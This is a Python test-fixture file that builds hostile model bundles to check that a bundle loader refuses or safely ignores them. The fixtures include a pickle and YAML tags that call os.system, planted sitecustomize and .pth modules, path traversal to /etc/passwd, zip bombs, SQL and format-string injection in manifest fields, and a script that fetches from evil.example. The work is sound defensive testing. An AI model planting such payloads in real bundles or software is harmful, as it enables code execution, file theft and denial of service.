"""Bundles that try to run code or do harm, signed by one who has the key, or not.

Each would leave a canary: a file that nothing else makes. ``payload`` is proved to work by a test,
so that an artefact that leaves no canary was not merely broken.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import socket
import zipfile
import zlib
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING, Any, Literal

from ebbtide.bundle.contents import MANIFEST, SIGNATURE
from ebbtide.bundle.read import read_bundle
from ebbtide.bundle.signature import sign
from ebbtide.scorer.trees import TreeModel
from small_model import KEY, NAMES, write_small_bundle
from tree_texts import one_tree

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

End = Literal["refused", "harmless"]


def payload(canary: Path) -> bytes:
    """Return a pickle, as text of protocol 0, that makes the canary when it is loaded."""
    return f"cos\nsystem\n(S'touch {canary}'\ntR.".encode()


def module(canary: Path) -> str:
    """Return the source of a module that makes the canary when it is imported."""
    return f"open({str(canary)!r}, 'w').close()\n"


@dataclass(frozen=True, slots=True, kw_only=True)
class Artefact:
    """A bundle under construction.

    Parameters
    ----------
    folder : of the bundle.
    canary : what nobody must make.
    """

    folder: Path
    canary: Path

    def json(self, name: str, change: Callable[[Any], object]) -> None:
        """Change a parsed file."""
        path = self.folder / name
        read = json.loads(path.read_bytes())
        change(read)
        path.write_text(json.dumps(read))

    def file(self, name: str, content: bytes | str) -> None:
        """Put another content into a file, or another file beside."""
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)

    def instead(self, name: str, make: Callable[[Path], object]) -> None:
        """Put something that is no file in the place of one."""
        (self.folder / name).unlink(missing_ok=True)
        make(self.folder / name)

    def sparse(self, name: str, size: int) -> None:
        """Make a file that says it is large, and takes no room."""
        with (self.folder / name).open("wb") as opened:
            opened.truncate(size)

    def signed(self) -> None:
        """Make hashes and signature fit, as one who has the key can."""
        manifest_path = self.folder / MANIFEST
        if not manifest_path.is_file() or manifest_path.stat().st_size > 10**8:
            return
        raw = manifest_path.read_bytes()
        try:
            manifest = json.loads(raw)
            for name in manifest["files"]:
                path = self.folder / name
                if path.is_file() and not path.is_symlink() and path.stat().st_size < 10**8:
                    manifest["files"][name] = hashlib.sha256(path.read_bytes()).hexdigest()
            raw = json.dumps(manifest).encode()
        except (ValueError, RecursionError, TypeError, KeyError):
            pass  # it is signed as it is
        manifest_path.write_bytes(raw)
        if not (self.folder / SIGNATURE).exists() or (self.folder / SIGNATURE).is_file():
            (self.folder / SIGNATURE).write_text(sign(raw, KEY))


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """One way to do harm.

    Parameters
    ----------
    name : what it tries.
    plant : makes the good bundle hostile.
    end : whether it is refused though signed, or accepted because what it brings is never read.
    has_trees : whether the good bundle holds trees, or a linear model.
    after : changes the folder once it is signed.
    """

    name: str
    plant: Callable[[Artefact], object]
    end: End = "refused"
    has_trees: bool = False
    after: Callable[[Artefact], object] = lambda _artefact: None

    def make(self, folder: Path, canary: Path, *, is_signed: bool = True) -> Path:
        """Write it; unsigned it keeps the signature of the good bundle that it was made from."""
        write_small_bundle(folder)
        if self.has_trees:
            put_trees(folder)
        artefact = Artefact(folder=folder, canary=canary)
        self.plant(artefact)
        if is_signed:
            artefact.signed()
        self.after(artefact)
        return folder


def put_trees(folder: Path) -> None:
    """Make the linear model of a good bundle one of trees."""
    bundle = read_bundle(folder, key=KEY)
    text = one_tree([1, -1], [-3, -2], n_features=len(NAMES), split_feature=[0, 4])
    scorer = replace(bundle.scorer, model=TreeModel(text, scale="log_odds"))
    (folder / "linear.json").unlink()
    (folder / "model.lgb").write_text(text)
    artefact = Artefact(folder=folder, canary=folder)
    artefact.json(
        "golden.json", lambda g: g.update(p_churn=scorer.p_churn(bundle.golden.rows).tolist())
    )

    def renamed(manifest: dict[str, Any]) -> None:
        manifest["kind"] = "lightgbm"
        del manifest["files"]["linear.json"]
        manifest["files"]["model.lgb"] = ""

    artefact.json(MANIFEST, renamed)
    artefact.signed()


def _listed(name: str) -> Callable[[Artefact], object]:
    return lambda a: a.json(MANIFEST, lambda m: m["files"].update({name: "0" * 64}))


def _first(change: Callable[[Any], object]) -> Callable[[Artefact], object]:
    return lambda a: a.json("features.json", lambda f: change(f[0]["contract"]))


def _deep(name: str) -> Callable[[Artefact], object]:
    return lambda a: a.file(name, '{"a":' + "[" * 100_000 + "]" * 100_000 + "}")


def _trees(**changes: Any) -> Callable[[Artefact], object]:
    left, right = changes.pop("left", [1, -1]), changes.pop("right", [-3, -2])
    text = one_tree(left, right, n_features=len(NAMES), **changes)
    return lambda a: a.file("model.lgb", text)


def _zip_bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../model.lgb", b"\0" * 50_000_000)
    return packed.getvalue()


def _socket(path: Path) -> None:
    short = path.name  # the path of a socket may be 107 bytes long
    here = os.open(path.parent, os.O_RDONLY)
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(f"/proc/self/fd/{here}/{short}")
    finally:
        os.close(here)


def _linked(artefact: Artefact) -> None:
    secret = artefact.canary.with_name("secret.txt")
    secret.write_text("of another")
    (artefact.folder / "card.md").unlink()
    os.link(secret, artefact.folder / "card.md")


def _mlmodel(artefact: Artefact) -> None:
    artefact.file("python_model.pkl", payload(artefact.canary))
    artefact.file("evil_loader.py", module(artefact.canary))
    artefact.file(
        "MLmodel",
        "flavors:\n  python_function:\n    loader_module: evil_loader\n"
        "    code: code\n    python_model: python_model.pkl\n"
        f"x: !!python/object/apply:os.system ['touch {artefact.canary}']\n",
    )
    artefact.file("conda.yaml", "dependencies: [{pip: ['evil @ file:evil']}]\n")
    artefact.file("requirements.txt", "evil @ file:evil\n")


def _modules(artefact: Artefact) -> None:
    for name in ("sitecustomize", "usercustomize", "code/sitecustomize", "lightgbm", "numpy"):
        artefact.file(f"{name}.py", module(artefact.canary))
    artefact.file("evil.pth", f"import os; os.system('touch {artefact.canary}')\n")


_AT_REASON = "{value.__class__.__init__.__globals__}"
_SQL = "UTC', now()); COPY (SELECT 1) TO '{}'; --"

_PLANTS: dict[str, tuple[Callable[[Artefact], object], str]] = {
    # name: how, and what the good bundle holds
    "a pickle as trees": (lambda a: a.file("model.lgb", payload(a.canary)), "trees"),
    "a pickle as weights": (lambda a: a.file("linear.json", payload(a.canary)), ""),
    "a pickle as the manifest": (lambda a: a.file(MANIFEST, payload(a.canary)), ""),
    "a pickle that is listed": (_listed("python_model.pkl"), ""),
    "a path upwards": (_listed("../card.md"), ""),
    "an absolute path": (_listed("/etc/passwd"), ""),
    "a path upwards of Windows": (_listed("..\\card.md"), ""),
    "a name with a NUL": (_listed("card.md\0.json"), ""),
    "a name of half a character": (_listed("card\udc80.md"), ""),
    "a link to a file": (lambda a: a.instead("card.md", lambda p: p.symlink_to("/etc/passwd")), ""),
    "a link to an endless device": (
        lambda a: a.instead("linear.json", lambda p: p.symlink_to("/dev/zero")),
        "",
    ),
    "a manifest that is a link": (
        lambda a: a.instead(MANIFEST, lambda p: p.symlink_to("/dev/zero")),
        "",
    ),
    "a pipe as the card": (lambda a: a.instead("card.md", os.mkfifo), ""),
    "a pipe as the manifest": (lambda a: a.instead(MANIFEST, os.mkfifo), ""),
    "a pipe as the signature": (lambda a: a.instead(SIGNATURE, os.mkfifo), ""),
    "a socket as the card": (lambda a: a.instead("card.md", _socket), ""),
    "a folder as the card": (lambda a: a.instead("card.md", os.mkdir), ""),
    "10 GB of weights": (lambda a: a.sparse("linear.json", 10 * 2**30), ""),
    "10 GB of manifest": (lambda a: a.sparse(MANIFEST, 10 * 2**30), ""),
    "a packed bomb as features": (
        lambda a: a.file("features.json", zlib.compress(b" " * 10**8)),
        "",
    ),
    "an archive as trees": (lambda a: a.file("model.lgb", _zip_bomb()), "trees"),
    "a deep manifest": (_deep(MANIFEST), ""),
    "deep weights": (_deep("linear.json"), ""),
    "deep features": (_deep("features.json"), ""),
    "a deep calibrator": (_deep("calibrator.json"), ""),
    "deep drivers": (_deep("drivers.json"), ""),
    "a number of a million digits": (
        lambda a: a.file("calibrator.json", f'{{"kind": "platt", "slope": {"9" * 10**6}}}'),
        "",
    ),
    "a number beyond floats": (
        lambda a: a.file(
            "calibrator.json",
            '{"kind": "platt", "slope": 1e999, "intercept": 0, "interval": null}',
        ),
        "",
    ),
    "a text of 40 MB": (lambda a: a.file("card.md", b"#" * (40 * 2**20)), ""),
    "10^7 quantiles": (
        lambda a: a.file("reference.json", '{"p_churn_quantiles": [' + "0," * 10**7 * 2 + "0]}"),
        "",
    ),
    "10^5 quantiles": (
        lambda a: a.json("reference.json", lambda r: r.update(p_churn_quantiles=[0.5] * 10**5)),
        "",
    ),
    "weights of nan": (
        lambda a: a.json("linear.json", lambda m: m["weights"].__setitem__(0, float("nan"))),
        "",
    ),
    "weights of infinity": (
        lambda a: a.json("linear.json", lambda m: m.update(intercept=float("inf"))),
        "",
    ),
    "metrics of nan": (
        lambda a: a.json(MANIFEST, lambda m: m["metrics"].update(auc=float("nan"))),
        "",
    ),
    "a tree that runs in a ring": (_trees(left=[1, 0]), "trees"),
    "a tree that reads beyond its row": (_trees(split_feature=[0, 300_000_000]), "trees"),
    "a tree that reads before its row": (_trees(split_feature=[0, -9]), "trees"),
    "a child beyond the tree": (_trees(right=[-3, 900_000]), "trees"),
    "10^9 leaves": (_trees(num_leaves=10**9), "trees"),
    "leaves below zero": (_trees(num_leaves=-5), "trees"),
    "leaves of nan": (_trees(leaf_value=["nan", 0, 0]), "trees"),
    "sizes beyond the file": (_trees(tree_sizes=466_000_000_000), "trees"),
    "10^9 trees": (_trees(tree_sizes="1 " * 10**5 + "1"), "trees"),
    "a line of 30 MB": (_trees(objective="x" * 30_000_000), "trees"),
    "a width in a reason": (_first(lambda c: c["reason"].update(en="{value:>9999999999}")), ""),
    "an attribute in a reason": (_first(lambda c: c["reason"].update(zh=_AT_REASON)), ""),
    "a reason that is no template": (_first(lambda c: c["reason"].update(en="{value")), ""),
    "a reason that is a number": (_first(lambda c: c["reason"].update(en=7)), ""),
    "half a character in a meaning": (_first(lambda c: c.update(meaning="\ud800")), ""),
    "a line break in a name": (_first(lambda c: c.update(name="a\nb")), ""),
    "a query as the time zone": (
        lambda a: a.json(
            MANIFEST, lambda m: m["definition"].update(time_zone=_SQL.format(a.canary))
        ),
        "",
    ),
    "a file as the time zone": (
        lambda a: a.json(MANIFEST, lambda m: m["definition"].update(time_zone="../../etc/passwd")),
        "",
    ),
    "a query as a parameter": (
        lambda a: a.json(
            MANIFEST,
            lambda m: m.update(
                expectations={
                    "unit": "days",
                    "purchases": {
                        "kind": "mbg_nbd",
                        "r": f"1) TO '{a.canary}'",
                        "alpha": 1.0,
                        "a": 1.0,
                        "b": 1.0,
                    },
                    "purchases_fit": None,
                    "spend": None,
                    "spend_fit": None,
                }
            ),
        ),
        "",
    ),
    "golden rows of another model": (
        lambda a: a.json("golden.json", lambda g: g["p_churn"].__setitem__(0, 0.001)),
        "",
    ),
    "a calibrator that falls": (
        lambda a: a.json("calibrator.json", lambda c: c.update(slope=-1)),
        "",
    ),
    "a blend that contains itself": (
        lambda a: a.json(MANIFEST, lambda m: m.update(kind="blend")),
        "",
    ),
}  # fmt: skip


def _signed_as_it_is(change: Callable[[bytes], bytes]) -> Callable[[Artefact], object]:
    """Return how to change the bytes of the manifest and sign them, whatever they say."""

    def after(artefact: Artefact) -> None:
        raw = change((artefact.folder / MANIFEST).read_bytes())
        artefact.file(MANIFEST, raw)
        artefact.file(SIGNATURE, sign(raw, KEY))

    return after


def _nothing(_artefact: Artefact) -> None:
    """Leave it as it is."""


HOSTILE = (
    *(
        Hostile(name=name, plant=plant, has_trees=holds == "trees")
        for name, (plant, holds) in _PLANTS.items()
    ),
    Hostile(
        name="a file listed twice",
        plant=_nothing,
        after=_signed_as_it_is(
            lambda raw: raw.replace(b'"files": {', b'"files": {"card.md": "0", ')
        ),
    ),
    Hostile(
        name="a hash of another kind",
        plant=_nothing,
        after=_signed_as_it_is(
            lambda raw: re.sub(rb'"card.md": "[0-9a-f]{64}"', b'"card.md": "md5:0"', raw)
        ),
    ),
    Hostile(
        name="10 GB of signature", plant=_nothing, after=lambda a: a.sparse(SIGNATURE, 10 * 2**30)
    ),
    Hostile(name="a file of another, linked", plant=_nothing, after=_linked),
    Hostile(name="a model for MLflow beside", plant=_mlmodel, end="harmless"),
    Hostile(name="modules beside", plant=_modules, end="harmless"),
    Hostile(name="a pipe beside", plant=lambda a: os.mkfifo(a.folder / "extra"), end="harmless"),
    Hostile(
        name="a link beside",
        plant=lambda a: (a.folder / "extra").symlink_to("/dev/zero"),
        end="harmless",
    ),
    Hostile(name="10 GB beside", plant=lambda a: a.sparse("extra", 10 * 2**30), end="harmless"),
    Hostile(
        name="a card with a script",
        plant=lambda a: a.file("card.md", "<script>fetch('//evil.example')</script>"),
        end="harmless",
    ),
)
